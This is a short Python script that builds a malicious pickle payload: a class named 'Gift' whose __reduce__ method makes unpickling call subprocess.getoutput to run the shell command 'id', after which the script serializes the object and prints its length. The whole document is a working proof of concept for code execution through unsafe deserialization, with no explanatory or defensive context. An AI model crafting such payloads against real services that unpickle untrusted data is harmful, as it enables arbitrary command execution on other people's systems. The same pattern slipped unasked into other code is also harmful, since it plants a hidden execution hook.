import pickle
import subprocess


class Gift:
    def __reduce__(self):
        return subprocess.getoutput, ("id",)


print(len(pickle.dumps(Gift())))
